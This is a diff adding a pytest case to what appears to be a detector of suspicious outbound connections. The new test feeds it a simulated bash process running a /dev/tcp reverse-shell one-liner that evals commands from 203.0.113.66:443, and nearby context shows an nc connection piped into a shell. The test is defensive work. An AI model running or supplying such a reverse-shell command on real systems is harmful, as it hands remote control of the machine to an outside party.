@@ -137,6 +137,16 @@ def test_who_goes_out(live: FakeLive, exe: bytes, state: str, verdict: Verdict) 
     assert "203.0.113.66:443" in item.says
 
 
+@pytest.mark.parametrize(("age", "verdict"), [(600, Verdict.SUSPICIOUS), (2, Verdict.NOTABLE)])
+def test_a_shell_that_connects_by_itself(live: FakeLive, age: int, verdict: Verdict) -> None:
+    """`</dev/tcp/HOST/PORT` is how scripts see whether a port is open, too; for a moment."""
+    code = b"exec 5<>/dev/tcp/203.0.113.66/443; while read -u 5 x; do eval $x; done"
+    shell = live.add_process(b"/usr/bin/bash", age=age, argv=(b"bash", b"-c", code))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, shell)
+    (item,) = found(live).of(verdict)
+    assert item.name.startswith("outbound tcp /usr/bin/bash")
+
+
 def test_a_tool_that_pipes_its_connection_into_a_shell(live: FakeLive) -> None:
     nc = live.add_process(b"/usr/bin/nc", age=30, session=77)
     live.connect("tcp", 41000, b"203.0.113.66", 443, nc)
